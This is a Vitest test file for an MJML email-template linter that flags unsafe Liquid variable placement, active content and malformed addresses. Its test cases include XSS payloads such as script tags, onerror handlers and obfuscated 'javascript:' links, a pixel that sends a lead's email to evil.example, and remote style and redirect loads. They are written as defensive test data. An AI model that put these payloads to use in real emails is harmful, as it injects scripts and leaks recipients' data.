import { describe, expect, it } from 'vitest'
import { checkMarkup } from '../../../domain/playbook/check-markup.ts'

const own = ['www.example.com']
const told = (mjml: string): readonly string[] => checkMarkup(mjml, own).map(({ message }) => message)
const text = (inside: string): string => `<mjml><mj-body><mj-text>${inside}</mj-text></mj-body></mjml>`

describe('addresses that a person may have typed in', () => {
  it.each([
    '<a href="{{ lead.website }}">x</a>',
    "<A HREF = '{{ lead.website }}'>x</A>",
    '<a href="https://{{ lead.website }}">x</a>',
    '<a href="https://www.example.com{{ lead.website | url_encode }}">x</a>',
    '<a href="{{ lead.website | default: "https://a.example" }}">x</a>',
    '<a href="{{ "https://a.example" | append: lead.website }}">x</a>',
    '<a href="{% if lead.website %}{{ lead.website }}{% endif %}">x</a>',
    '{% assign site = lead.website %}<a href="{{ site }}">x</a>',
    '{% assign a = lead.website %}{% assign b = a | strip %}<a href="{{ b }}">x</a>',
    '{% capture site %}{{ lead.website }}{% endcapture %}<a href="{{ site }}">x</a>',
    '{% for row in timeline %}<a href="{{ row.text }}">x</a>{% endfor %}',
    '<a href="{% echo lead.website %}">x</a>',
    '</mj-text><mj-button href="{{- lead["website"] -}}">x</mj-button><mj-text>',
    '</mj-text><mj-image href="{{ lead.website }}" src="https://a.example/b.png" alt="" /><mj-text>',
    '</mj-text><mj-social><mj-social-element href="{{ lead.website }}">x</mj-social-element></mj-social><mj-text>',
    '</mj-text><mj-navbar><mj-navbar-link href="{{ lead.website }}">x</mj-navbar-link></mj-navbar><mj-text>',
    '<!--[if mso]><v:roundrect href="{{ lead.website }}"></v:roundrect><![endif]-->',
    '<svg><a xlink:href="{{ lead.website }}">x</a></svg>',
  ])('decide no link: %s', (inside) => {
    expect(told(text(inside))).toEqual([expect.stringContaining('decides where this link leads')])
  })

  it.each([
    '<img src="https://evil.example/p.gif?e={{ lead.email }}" alt="">',
    '<img src="https://www.example.com/{{ lead.id | url_encode }}.png" alt="">',
    '<img srcset="https://www.example.com/{{ lead.id }}.png 2x" alt="">',
    '<td background="https://www.example.com/{{ lead.id }}.png">',
    '<video poster="https://www.example.com/{{ lead.id }}.png">',
    '</mj-text><mj-image src="https://www.example.com/{{ lead.id }}.png" alt="" /><mj-text>',
    '</mj-text><mj-section background-url="{{ lead.picture }}"></mj-section><mj-text>',
    '<!--[if mso]><v:fill src="{{ lead.picture }}" /><![endif]-->',
    '{% assign p = lead.email %}<img src="https://www.example.com/{{ p }}" alt="">',
  ])('are in nothing that is fetched: %s', (inside) => {
    expect(told(text(inside))).toEqual([expect.stringContaining('is fetched when the email is opened')])
  })

  it.each([
    ['<p style="background: url({{ lead.picture }})">', 'is part of a style'],
    ['<style>a { color: {{ lead.colour }} }</style>', 'is part of a style'],
    ['<a title={{ lead.company }} href="https://a.example">x</a>', 'put quotes around the value of "title"'],
    ['<b {{ lead.company }}>x</b>', 'is only allowed as the value of an attribute'],
    [
      '<a href="https://www.example.com/?c={{ lead.company }}">x</a>',
      'write {{ lead.company | url_encode }}',
    ],
    [
      '<a href="{{ links.forms.demo }}&amp;c={{ lead.company }}">x</a>',
      'write {{ lead.company | url_encode }}',
    ],
  ])('cannot break out: %s', (inside, message) => {
    expect(told(text(inside))).toEqual([expect.stringContaining(message)])
  })

  it.each([
    '<a href="{{ links.unsubscribe }}">x</a>',
    '<a href="{{ links.forms.rating }}&amp;rating=5">x</a>',
    '<a href="{{ company.imprint }}">x</a>',
    '<a href="https://www.example.com/?c={{ lead.company | default: "-" | url_encode }}&amp;x=1">x</a>',
    '<a href="mailto:{{ lead.email }}?subject=x">x</a><a href="tel:{{ lead.phone | default: "" }}">y</a>',
    '<a href="https://www.example.com/{% if lead.country == "DE" %}de{% else %}en{% endif %}">x</a>',
    '{% assign page = "https://www.example.com/a" %}<a href="{{ page }}">x</a>',
    '<a href="https://a.example" title="{{ lead.company }}">{{ lead.website }}</a>',
    '<img src="https://cdn.example.net/a.png" alt="{{ lead.company }}" width="200">',
    '<p style="background: url({{ brand.logo }})">x</p>',
  ])('may stand elsewhere: %s', (inside) => {
    expect(told(text(inside))).toEqual([])
  })
})

describe('what runs or loads', () => {
  it.each([
    ['<script>alert(1)</script>', '<script> is unsafe'],
    ['<IFRAME src="https://www.example.com"></IFRAME>', '<iframe> is unsafe'],
    ['<form action="https://www.example.com"><input></form>', '<form> is unsafe'],
    ['<object data="https://www.example.com/x"></object>', '<object> is unsafe'],
    ['<base href="https://evil.example/">', '<base> is unsafe'],
    ['<!--[if mso]><script>x</script><![endif]-->', '<script> is unsafe'],
    ['<img src="https://a.example/b.png" alt="" onerror="x()">', '"onerror" runs a script'],
    ['<b ONCLICK=x>y</b>', '"onclick" runs a script'],
    ['<a href="javascript:alert(1)">x</a>', '"javascript:" runs'],
    ['<a href=" java&#115;cript&colon;alert(1)">x</a>', '"javascript:" runs'],
    ['<a href="java\tscript:{{ lead.x }}">x</a>', '"javascript:" runs'],
    ['<a href="data:text/html,x">x</a>', '"data:" runs'],
    ['<meta http-equiv="Refresh" content="0;url=https://evil.example">', 'an email must not redirect'],
    ['<style>@import url(https://evil.example/x.css);</style>', 'a style is loaded from evil.example'],
    [
      '</mj-text><mj-style>@import "//evil.example/x.css";</mj-style><mj-text>',
      'a style is loaded from evil.example',
    ],
    [
      '<style>@font-face { font-family: x; src: url("https://evil.example/x.woff") }</style>',
      'a font is loaded from evil',
    ],
    ['<link rel="stylesheet" href="https://evil.example/x.css">', 'a file is loaded from evil.example'],
    [
      '</mj-text><mj-font name="x" href="https://fonts.evil.example/x" /><mj-text>',
      'a font is loaded from fonts.evil',
    ],
    [
      '<img src="https://evil.example/p.gif" width="1" height="1" alt="">',
      'an invisible image on evil.example',
    ],
    [
      '</mj-text><mj-image src="https://evil.example/p.gif" width="1px" alt="" /><mj-text>',
      'an invisible image on evil',
    ],
    ['<p style="background:url(javascript:x)">', 'a style may only load images'],
  ])('is told: %s', (inside, message) => {
    expect(told(text(inside))).toEqual([expect.stringContaining(message)])
  })

  it.each([
    '</mj-text><mj-font name="x" href="https://fonts.example.com/x" /><mj-text>',
    '<style>@import url(https://www.example.com/x.css); a { background: url(https://www.example.com/b.png) }</style>',
    '<img src="https://cdn.example.net/hero.jpg" width="600" alt="A hall">',
    '<!-- <script>x</script> -->',
    '</mj-text><mj-attributes><mj-button color="#fff" /></mj-attributes><mj-button href="tel:1">a</mj-button><mj-text>',
    '<p>on="x" javascript: and &lt;script&gt;</p>',
  ])('is no fault: %s', (inside) => {
    expect(told(text(inside))).toEqual([])
  })
})

describe('addresses that work in no inbox', () => {
  it.each([
    ['<a href="www.example.com/x">x</a>', 'did you mean "https://www.example.com/x"?'],
    ['<a href="//www.example.com/x">x</a>', 'did you mean "https://www.example.com/x"?'],
    ['<a href="">x</a>', 'the link has no target'],
    ['<a href=" # ">x</a>', 'the link has no target'],
    ['</mj-text><mj-button href="#">x</mj-button><mj-text>', 'the link has no target'],
    ['</mj-text><mj-button>x</mj-button><mj-text>', 'the button has no target'],
    ['<a href="/x">x</a>', 'needs an absolute address'],
    ['<a href="page.html">x</a>', 'did you mean "https://page.html"?'],
    [
      '<a href="htps://a.example">x</a>',
      '"htps:" is not an address that an email can link to; did you mean "https"?',
    ],
    ['<a href="https:///x">x</a>', 'not a web address'],
    [
      '</mj-text><mj-image src="bild.jpg" alt="x" /><mj-text>',
      'an image in an email needs an absolute address',
    ],
    ['<img src="http://www.example.com/a.png" alt="">', 'an image in an email needs an absolute address'],
    ['<img src="data:image/png;base64,AA" alt="">', 'an image in an email needs an absolute address'],
    ['<img src="cid:a" alt="">', 'an image in an email needs an absolute address'],
    ['<td background="a.png">', 'an image in an email needs an absolute address'],
  ])('are told: %s', (inside, message) => {
    expect(told(text(inside))).toEqual([expect.stringContaining(message)])
  })

  it('are told at their place', () => {
    const mjml = text('\n  <a\n href="www.example.com">x</a>')
    const [finding] = checkMarkup(mjml, own)
    expect(mjml.slice(finding?.offset)).toMatch(/^www\.example\.com/)
  })

  it.each(['#part', 'http://a.example', 'HTTPS://a.example', 'mailto:a@b.example', 'tel:+49', 'sms:+49'])(
    'are not %s',
    (address) => {
      expect(told(text(`<a href="${address}">x</a>`))).toEqual([])
    },
  )
})
